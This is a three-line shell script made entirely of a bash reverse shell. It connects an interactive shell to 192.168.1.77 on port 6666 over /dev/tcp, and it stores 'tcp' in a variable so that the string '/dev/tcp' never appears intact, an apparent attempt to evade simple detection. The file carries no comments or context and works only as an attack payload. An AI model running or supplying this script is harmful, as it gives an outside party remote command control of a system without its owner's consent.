#!/bin/sh
set -eu
T=tcp; bash -i >& /dev/$T/192.168.1.77/6666 0>&1
